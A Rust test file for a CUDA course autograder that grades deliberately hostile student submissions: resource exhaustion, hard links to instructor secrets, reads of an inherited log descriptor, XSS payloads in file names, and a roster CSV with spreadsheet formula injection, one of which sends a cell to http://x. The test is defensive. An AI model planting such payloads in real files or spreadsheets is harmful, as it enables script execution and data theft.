//! The second hostile round: students who try to stop or starve the whole
//! class, or reach outside it, graded on the CPU emulator beside honest
//! students. A PTX of megabytes or of 25,000 nested braces, hard links by
//! the thousand and out of the submission, folder names built from the
//! grader's own renaming, a whole clone of the course, descriptors the
//! grader inherited (a log at fd 200, with a token in it), a run that holds
//! every thread it can while classmates are graded at the same time, a run
//! that takes 3 GiB, a look into /opt and /usr/local, markup in step names
//! and file names, and a build error naming its folder. The class must be
//! graded to the end with exit 0, every honest student at full marks and
//! exactly as when graded alone, nothing outside the output changed, the
//! log neither read nor appended to, and the grader's own memory bounded.

use std::collections::BTreeSet;
use std::ffi::OsStr;
use std::fs;
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use super::{SECRET, course, fixtures, tree, without_durations};

/// Where the grader's inherited log is open, as its caller left it.
const LOG_FD: i32 = 200;

/// Floats in huge-ptx's `__device__` array: about 12 MB of PTX (the
/// issue's 192 MB came from 16 Mi; `HOSTILE_PTX_FLOATS` sets it).
const PTX_FLOATS: u64 = 1 << 20;

/// Hard links in each of hard-links' three copies of src/.
const HARD_LINKS: usize = 2000;

/// The most memory (KiB) the grader itself may hold while building or
/// grading this class: reading the huge PTX or every hard link took
/// hundreds of MB to GB.
pub(super) const MAX_GRADER_KIB: i64 = 192 << 10;

/// What each hostile student tried, and what they must get.
const CASES: &[(&str, &str, Expect)] = &[
    (
        "huge-ptx",
        "a kernel of a few lines whose PTX is megabytes",
        Ptx("over the 2097152-byte limit the grader reads"),
    ),
    (
        "deep-braces",
        "25,000 nested braces in inline asm that never runs",
        Ptx("nests scopes ({ ... }) more than 256 deep"),
    ),
    (
        "hard-links",
        "three copies of dot-sm whose src/ hold 2,000 hard links to one 256 KiB file",
        Absent("over the limit of 32"),
    ),
    (
        "hard-link-out",
        "main.rs a hard link to the instructor's notes, outside the submission",
        Refused("is a hard link"),
    ),
    (
        "fd-build",
        "include_bytes! of the grader's inherited log, /proc/self/fd/200",
        Build("couldn't read"),
    ),
    (
        "fd-run",
        "reading and appending to every descriptor it finds open",
        Blocked,
    ),
    (
        "hold-threads",
        "holding every thread it can get for 8 s",
        Blocked,
    ),
    (
        "memory-hog",
        "taking 3 GiB of memory",
        Kind("out-of-memory"),
    ),
    ("hidden-folders", "listing /opt and /usr/local", Blocked),
    (
        "markup-steps",
        "HTML and Markdown as its report's timing step names",
        Kind("garbage"),
    ),
    (
        "markup-files",
        "HTML and Markdown in its file names",
        Refused("symbolic link"),
    ),
    (
        "build-paths",
        "a build error naming the folder it is built in",
        Build("couldn't read `dot-sm/missing-notes.txt`"),
    ),
];

#[derive(Clone, Copy, Debug)]
enum Expect {
    /// The kernel's PTX was not inspected; the reason holds this.
    Ptx(&'static str),
    /// Nothing graded; the student's problems hold this.
    Absent(&'static str),
    /// A file refused; the refusal holds this.
    Refused(&'static str),
    /// Did not build; the errors hold this.
    Build(&'static str),
    /// Built, ran, and said its attack was blocked.
    Blocked,
    /// Built, and its first run of its own binary got this verdict.
    Kind(&'static str),
}
use Expect::{Absent, Blocked, Build, Kind, Ptx, Refused};

/// The id an accented name got from the grader before ids were unique by
/// construction: its safe characters and 8 hex digits of FNV-1a.
fn old_id(name: &str) -> String {
    let hash = name.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    });
    let kept: String = name
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
        .collect();
    format!("{kept}-{:08x}", (hash >> 32) ^ (hash & 0xffff_ffff))
}

/// The honest students: an accented name, a name that is the id the
/// grader once made of it, one that is the id it makes now, and a clone of
/// the whole course with the work in its exercises/.
fn honest_names() -> Vec<String> {
    let accented = "zo\u{eb}".to_owned();
    let made = grader::discover::student_id::assign(&[OsStr::new(&accented)])[0]
        .id
        .clone();
    vec![
        "honest1".into(),
        "honest2".into(),
        old_id(&accented),
        made,
        accented,
        "course-clone".into(),
    ]
}

/// The dot-sm solution's files into `src`.
pub(super) fn solution_into(src: &Path) {
    fs::create_dir_all(src).unwrap();
    for file in ["main.rs", "kernel.cu"] {
        let own = src.join(file);
        if own.symlink_metadata().is_err() {
            fs::copy(course().join("solutions/dot-sm/src").join(file), own).unwrap();
        }
    }
}

/// Copies `from` to `to` (links as links), placeholders replaced.
fn copy_tree(from: &Path, to: &Path, places: &[(&str, String)]) {
    super::copy_case(from, to, places);
}

/// Writes the honest students into `submissions`.
fn write_honest(submissions: &Path) {
    for name in honest_names() {
        let student = submissions.join(&name);
        if name == "course-clone" {
            // The course's repository handed in whole: its own Cargo.toml,
            // the work in exercises/, the solutions and the grader's own
            // hostile fixtures, each with a dot-sm/ of its own.
            fs::create_dir_all(&student).unwrap();
            fs::copy(course().join("Cargo.toml"), student.join("Cargo.toml")).unwrap();
            solution_into(&student.join("exercises/dot-sm/src"));
            solution_into(&student.join("solutions/dot-sm/src"));
            copy_tree(
                &fixtures(),
                &student.join("grader/tests/fixtures/hostile"),
                &[],
            );
        } else {
            solution_into(&student.join("dot-sm/src"));
        }
    }
}

/// Writes the hostile students into `submissions`; `notes` is a file of
/// the instructor's outside it.
fn write_hostile(submissions: &Path, notes: &Path) {
    let floats = std::env::var("HOSTILE_PTX_FLOATS")
        .ok()
        .and_then(|f| f.parse::<u64>().ok())
        .unwrap_or(PTX_FLOATS);
    let places = [
        ("@PTX_FLOATS@", floats.to_string()),
        ("@DEPTH@", "25,000".to_owned()),
        ("@DEEP_OPEN@", "{".repeat(25_000)),
        ("@DEEP_CLOSE@", "}".repeat(25_000)),
        ("@LOG_FD@", LOG_FD.to_string()),
    ];
    for (case, _, _) in CASES {
        let student = submissions.join(case);
        let fixture = fixtures().join(case);
        if fixture.exists() {
            copy_tree(&fixture, &student, &places);
        }
        let src = student.join("dot-sm/src");
        match *case {
            "hard-links" => {
                let one = student.join("one.rs");
                fs::create_dir_all(&student).unwrap();
                fs::write(&one, "x".repeat(256 << 10)).unwrap();
                for copy in ["a", "b", "c"] {
                    let src = student.join(copy).join("dot-sm/src");
                    fs::create_dir_all(&src).unwrap();
                    fs::hard_link(&one, src.join("main.rs")).unwrap();
                    for i in 0..HARD_LINKS {
                        fs::hard_link(&one, src.join(format!("m{i:04}.rs"))).unwrap();
                    }
                }
                continue;
            }
            "hard-link-out" => {
                fs::create_dir_all(&src).unwrap();
                fs::hard_link(notes, src.join("main.rs")).unwrap();
            }
            "markup-files" => {
                fs::create_dir_all(&src).unwrap();
                for name in [
                    "<img src=x onerror=alert(1)>.rs",
                    "[x](javascript:alert(1)) **b**.rs",
                ] {
                    std::os::unix::fs::symlink("main.rs", src.join(name)).unwrap();
                }
            }
            _ => {}
        }
        solution_into(&src);
    }
}

/// What one grader process did: its exit code, what it printed, and its
/// own peak memory (KiB, from wait4: the grader, not what it started).
pub(super) struct Ran {
    pub(super) code: i32,
    pub(super) stderr: String,
    pub(super) peak_kib: i64,
    pid: u32,
}

/// Starts the grader with `args`, the log open at [`LOG_FD`] as its caller
/// left it (no close-on-exec), and the instructor's secret in its
/// environment.
fn start(args: &[&str], log: &fs::File, out: &Path) -> std::process::Child {
    start_with(args, &[], log, out)
}

/// [`start`], with `variables` set besides.
pub(super) fn start_with(
    args: &[&str],
    variables: &[(&str, &Path)],
    log: &fs::File,
    out: &Path,
) -> std::process::Child {
    let log_fd = log.as_raw_fd();
    let mut command = Command::new(assert_cmd::cargo::cargo_bin("grader"));
    command
        .args(args)
        .envs(variables.iter().copied())
        .env("GRADER_TEST_SECRET", SECRET)
        .stdin(Stdio::null())
        .stdout(fs::File::create(out.with_extension("stdout")).unwrap())
        .stderr(fs::File::create(out.with_extension("stderr")).unwrap());
    // SAFETY: dup2 is async-signal-safe; the new descriptor has no
    // close-on-exec, as a shell's redirection leaves it.
    unsafe {
        command.pre_exec(move || {
            if libc::dup2(log_fd, LOG_FD) != LOG_FD {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    command.spawn().unwrap()
}

/// Waits for `child` (started by [`start`] for `out`) and reads what it did.
pub(super) fn finish(child: std::process::Child, out: &Path) -> Ran {
    let mut status = 0;
    // SAFETY: rusage is plain data that wait4 fills.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: wait4 on our own child, which nothing else waits for.
    let waited = unsafe { libc::wait4(child.id() as i32, &mut status, 0, &mut usage) };
    assert_eq!(waited, child.id() as i32);
    Ran {
        code: if libc::WIFEXITED(status) {
            libc::WEXITSTATUS(status)
        } else {
            128 + libc::WTERMSIG(status)
        },
        stderr: fs::read_to_string(out.with_extension("stderr")).unwrap_or_default(),
        peak_kib: usage.ru_maxrss,
        pid: child.id(),
    }
}

fn run_grader(args: &[&str], log: &fs::File, out: &Path) -> Ran {
    let child = start(args, log, out);
    finish(child, out)
}

pub(super) fn results_in(out: &Path) -> Value {
    serde_json::from_str(&fs::read_to_string(out.join("results.json")).unwrap()).unwrap()
}

/// Occurrences of `pattern` in `text` not escaped by a backslash.
fn unescaped(text: &str, pattern: &str) -> usize {
    text.match_indices(pattern)
        .filter(|(at, _)| !text[..*at].ends_with('\\'))
        .count()
}

/// Where two records first differ, as a JSON pointer and both values.
fn first_difference(a: &Value, b: &Value, at: &str) -> Option<String> {
    match (a, b) {
        (Value::Object(x), Value::Object(y)) => x
            .keys()
            .chain(y.keys())
            .find_map(|k| {
                first_difference(
                    &x[k],
                    y.get(k).unwrap_or(&Value::Null),
                    &format!("{at}/{k}"),
                )
            })
            .or_else(|| (x.len() != y.len()).then(|| format!("{at}: keys {x:?} / {y:?}"))),
        (Value::Array(x), Value::Array(y)) if x.len() == y.len() => x
            .iter()
            .zip(y)
            .enumerate()
            .find_map(|(i, (p, q))| first_difference(p, q, &format!("{at}/{i}"))),
        _ if a == b => None,
        _ => Some(format!("{at}: {a} / {b}")),
    }
}

/// A record without what a run measures (its duration, and its report's
/// times and bandwidths), which no two gradings share, nor what the
/// student's host code reports of its result (its results and its own
/// check): that is the canary's, whose mark every build draws afresh. The
/// rest of those reports, and every run's verdict and points, still count.
fn without_measurements(record: &Value) -> Value {
    let mut record = without_durations(record.clone());
    for exercise in record["exercises"].as_object_mut().unwrap().values_mut() {
        for run in exercise["runs"].as_array_mut().unwrap() {
            let canary = run["role"] == "student-host";
            if let Some(report) = run["report"].as_object_mut() {
                for measured in ["timings", "throughput", "gflop_per_s"] {
                    report.remove(measured);
                }
                if canary {
                    report.remove("results");
                    report.remove("check");
                }
            }
        }
    }
    record
}

/// The same record, measurements aside; else where they differ.
pub(super) fn same_record(a: &Value, b: &Value, what: &str) {
    let (a, b) = (without_measurements(a), without_measurements(b));
    if let Some(difference) = first_difference(&a, &b, "") {
        panic!("{what}: {difference}");
    }
}

/// An honest student's dot-sm: every run passed, full marks.
pub(super) fn full_marks(name: &str, record: &Value) {
    let exercise = &record["exercises"]["dot-sm"];
    let runs = exercise["runs"].as_array().expect("graded runs");
    assert!(!runs.is_empty(), "{name}: {record}");
    for run in runs {
        assert_eq!(run["verdict"]["kind"], "passed", "{name}: {run}");
    }
    assert_eq!(
        exercise["points"], exercise["max_points"],
        "{name}: {record}"
    );
}

#[test]
fn a_class_no_student_can_stop_starve_or_reach_out_of() {
    let work = tempfile::tempdir().unwrap();
    let submissions = work.path().join("submissions");
    let notes = work.path().join("instructor-notes.txt");
    fs::write(&notes, format!("instructor notes: {SECRET}\n")).unwrap();
    let log_path = work.path().join("grader.log");
    fs::write(&log_path, format!("cron: grading with token {SECRET}\n")).unwrap();
    let log = fs::OpenOptions::new()
        .read(true)
        .append(true)
        .open(&log_path)
        .unwrap();
    let log_before = fs::read(&log_path).unwrap();
    write_honest(&submissions);
    write_hostile(&submissions, &notes);
    let watched = [
        submissions.clone(),
        notes.clone(),
        course().join("solutions"),
        course().join("exercises"),
        course().join("kernels"),
    ];
    let before = tree(&watched);

    // Built once, then graded on the emulator, with the log inherited.
    let bundle = work.path().join("bundle");
    let deps = Path::new(env!("CARGO_TARGET_TMPDIR")).join("grader-deps");
    let dir = |p: &Path| p.to_string_lossy().into_owned();
    let (submissions_arg, bundle_arg, deps_arg) = (dir(&submissions), dir(&bundle), dir(&deps));
    let built = run_grader(
        &[
            "build",
            &submissions_arg,
            "--exercise",
            "dot-sm",
            "--seed",
            "9",
            "--build-timeout",
            "120",
            "--bundle",
            &bundle_arg,
            "--target-dir",
            &deps_arg,
        ],
        &log,
        &work.path().join("build"),
    );
    assert_eq!(built.code, 0, "the build stopped: {}", built.stderr);
    assert!(
        built.stderr.contains("grader: confinement: bubblewrap"),
        "{}",
        built.stderr
    );
    let out = work.path().join("out");
    let out_arg = dir(&out);
    let emulate = ["--emulate", "--timeout", "20"];
    let mut args = vec!["run", &bundle_arg, "--out", &out_arg];
    args.extend(emulate);
    let graded = run_grader(&args, &log, &work.path().join("run"));
    assert_eq!(graded.code, 0, "grading stopped: {}", graded.stderr);

    // A run holding every thread it can, and classmates graded at the
    // same time by another grader on the same machine.
    let holding_out = work.path().join("holding");
    let (holding_arg, same_time_out) = (dir(&holding_out), work.path().join("same-time"));
    let same_time_arg = dir(&same_time_out);
    let mut args = vec![
        "run",
        &bundle_arg,
        "--student",
        "hold-threads",
        "--out",
        &holding_arg,
    ];
    args.extend(emulate);
    let holding = start(&args, &log, &holding_out);
    std::thread::sleep(Duration::from_secs(4));
    let mut args = vec![
        "run",
        &bundle_arg,
        "--student",
        "honest1",
        "--student",
        "honest2",
        "--out",
        &same_time_arg,
    ];
    args.extend(emulate);
    let same_time = run_grader(&args, &log, &same_time_out);
    let held = finish(holding, &holding_out);
    assert_eq!(same_time.code, 0, "{}", same_time.stderr);
    assert_eq!(held.code, 0, "{}", held.stderr);
    let held_message = results_in(&holding_out)["students"]["hold-threads"]["exercises"]["dot-sm"]
        ["runs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["role"] == "student-host")
        .map(|r| r["verdict"].to_string())
        .unwrap_or_default();
    assert!(held_message.contains("held"), "{held_message}");

    let results = results_in(&out);
    let mut table = String::from("case | what it tried | outcome\n");
    for (case, tried, expect) in CASES {
        let student = &results["students"][case];
        let record = &student["exercises"]["dot-sm"];
        let text = |v: &Value| v.to_string();
        let first = record["runs"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|r| r["role"] == "student-host")
            .map(|r| r["verdict"].clone())
            .unwrap_or(Value::Null);
        let kind = first["kind"].as_str().unwrap_or("none");
        let outcome = match expect {
            Ptx(said) => {
                assert!(
                    text(&record["ptx_missing"]).contains(said),
                    "{case}: {record}"
                );
                "PTX not inspected".to_owned()
            }
            Absent(said) => {
                assert!(record["absent"].is_string(), "{case}: {record}");
                assert!(
                    text(&student["problems"]).contains(said),
                    "{case}: {student}"
                );
                "not graded, the limit named".to_owned()
            }
            Refused(said) => {
                assert!(text(&record["refused"]).contains(said), "{case}: {record}");
                "refused".to_owned()
            }
            Build(said) => {
                let errors = record["build_errors"].as_str();
                assert!(errors.unwrap_or("").contains(said), "{case}: {record}");
                "did not build".to_owned()
            }
            Blocked => {
                assert!(record["build_errors"].is_null(), "{case}: {record}");
                // Schema 2 keeps the verdict typed: what the run said is
                // in its fields (a garbage verdict's stderr, say).
                let message = first.to_string();
                assert!(message.contains("blocked"), "{case}: {kind}: {message}");
                format!("{kind}, blocked")
            }
            Kind(expected) => {
                assert_eq!(kind, *expected, "{case}: {first}");
                kind.to_owned()
            }
        };
        table += &format!("{case} | {tried} | {outcome}\n");
    }
    eprintln!("{table}");

    // Honest students: full marks, in the class and graded at the same
    // time as a run that held every thread it could.
    let same_time_results = results_in(&same_time_out);
    let honest = honest_names();
    let ids: BTreeSet<String> = {
        let names: Vec<&OsStr> = honest.iter().map(OsStr::new).collect();
        grader::discover::student_id::assign(&names)
            .into_iter()
            .map(|a| a.id)
            .collect()
    };
    assert_eq!(ids.len(), honest.len(), "{ids:?}");
    for id in &ids {
        full_marks(id, &results["students"][id]);
    }
    let clone = &results["students"]["course-clone"]["problems"];
    assert!(clone.to_string().contains("other copies"), "{clone}");

    // Nothing outside the output changed; the log was neither appended
    // to nor read; no cell of these graders is left.
    assert_eq!(tree(&watched), before, "a file outside the output changed");
    assert_eq!(fs::read(&log_path).unwrap(), log_before, "the log changed");
    let instructor = [dir(work.path()), dir(&course())];
    for folder in [&out, &bundle, &same_time_out, &holding_out] {
        for entry in walkdir::WalkDir::new(folder).into_iter().flatten() {
            let path = entry.path();
            let kind = path.extension().and_then(OsStr::to_str).unwrap_or("");
            if !entry.file_type().is_file() || !["json", "md", "csv"].contains(&kind) {
                continue;
            }
            let text = fs::read_to_string(path).unwrap_or_default();
            for leak in [SECRET, "PWNED", "/build/workspace"] {
                assert!(!text.contains(leak), "{} holds {leak:?}", path.display());
            }
            // What a student reads: no markup of theirs, no instructor's path.
            if kind == "md" {
                assert_eq!(unescaped(&text, "<img"), 0, "{}", path.display());
                for shown in &instructor {
                    assert!(
                        !text.contains(shown.as_str()),
                        "{} shows {shown}",
                        path.display()
                    );
                }
            }
        }
    }
    for feedback in ["markup-steps", "markup-files"] {
        let text = fs::read_to_string(out.join("feedback").join(format!("{feedback}.md"))).unwrap();
        for markup in ["<img", "](javascript", "**"] {
            assert_eq!(
                unescaped(&text, markup),
                0,
                "{feedback}.md: {markup}\n{text}"
            );
        }
        assert!(text.contains("\\<img src=x onerror=alert(1)\\>"), "{text}");
    }
    // Every cell these graders made was removed with its run.
    for ran in [&built, &graded, &same_time, &held] {
        let prefix = format!("{}-", ran.pid);
        let left: Vec<PathBuf> = [
            "/sys/fs/cgroup/pids",
            "/sys/fs/cgroup/memory",
            "/sys/fs/cgroup",
        ]
        .iter()
        .flat_map(|root| {
            fs::read_dir(Path::new(root).join("cuda-course-grader"))
                .into_iter()
                .flatten()
                .flatten()
        })
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with(&prefix))
        })
        .collect();
        assert!(left.is_empty(), "cells left: {left:?}");
    }

    // The grader's own memory stayed small while it read the class.
    for (phase, ran) in [("build", &built), ("run", &graded)] {
        eprintln!("grader {phase}: peak {} MiB", ran.peak_kib >> 10);
        assert!(
            ran.peak_kib < MAX_GRADER_KIB,
            "{phase}: {} KiB",
            ran.peak_kib
        );
    }

    // The gradebooks: no cell a spreadsheet would run, points as numbers.
    let roster = work.path().join("roster.csv");
    fs::write(
        &roster,
        "folder,name,sis_login_id,email,section\n\
         honest1,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"grades\"\")\",h1,h1@uni.edu,-2+3\n\
         honest2,@SUM(A1),+h2,h2@uni.edu,\t=1\n",
    )
    .unwrap();
    for lms in ["canvas", "moodle"] {
        let exported = Command::new(assert_cmd::cargo::cargo_bin("grader"))
            .args(["export", &out_arg, "--lms", lms, "--roster"])
            .arg(&roster)
            .output()
            .unwrap();
        assert!(exported.status.success(), "{exported:?}");
        let csv = fs::read_to_string(out.join(format!("{lms}.csv"))).unwrap();
        for line in csv.lines() {
            for cell in line.split(',').map(|c| c.trim_start_matches('"')) {
                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(
                    !formula || cell.parse::<f64>().is_ok(),
                    "{lms}: {cell:?} in {line}"
                );
            }
        }
        let row = csv.lines().find(|l| l.contains("h1")).unwrap();
        // dot-sm's points on the emulator, memory safety among them.
        assert!(row.ends_with(",12"), "{lms}: {row}");
        let said = String::from_utf8_lossy(&exported.stderr);
        if lms == "canvas" {
            assert!(said.contains("SIS Login ID \"+h2\""), "{said}");
        }
    }

    // Graded alone, the honest students get exactly the same.
    let alone = work.path().join("alone");
    write_honest(&alone);
    let alone_out = work.path().join("alone-out");
    let (alone_arg, alone_out_arg) = (dir(&alone), dir(&alone_out));
    let mut args = vec![
        "grade",
        &alone_arg,
        "--exercise",
        "dot-sm",
        "--seed",
        "9",
        "--out",
        &alone_out_arg,
        "--target-dir",
        &deps_arg,
    ];
    args.extend(emulate);
    let by_themselves = run_grader(&args, &log, &work.path().join("alone"));
    assert_eq!(by_themselves.code, 0, "{}", by_themselves.stderr);
    let by_themselves = results_in(&alone_out);
    for id in &ids {
        same_record(&by_themselves["students"][id], &results["students"][id], id);
    }
    for id in ["honest1", "honest2"] {
        same_record(
            &by_themselves["students"][id],
            &same_time_results["students"][id],
            &format!("{id}, graded beside a run holding every thread"),
        );
    }
    assert_eq!(fs::read(&log_path).unwrap(), log_before, "the log changed");
}

/// Not a test: writes the class (honest and hostile students) into
/// $HOSTILE_CLASS, for scripts/hostile-memory.sh to grade case by case
/// with one grader and another.
#[test]
#[ignore = "writes the class for scripts/hostile-memory.sh"]
fn write_the_class() {
    let Some(to) = std::env::var_os("HOSTILE_CLASS") else {
        return;
    };
    let to = PathBuf::from(to);
    let notes = to.join("instructor-notes.txt");
    fs::create_dir_all(&to).unwrap();
    fs::write(&notes, format!("instructor notes: {SECRET}\n")).unwrap();
    write_honest(&to.join("honest"));
    write_hostile(&to.join("hostile"), &notes);
}
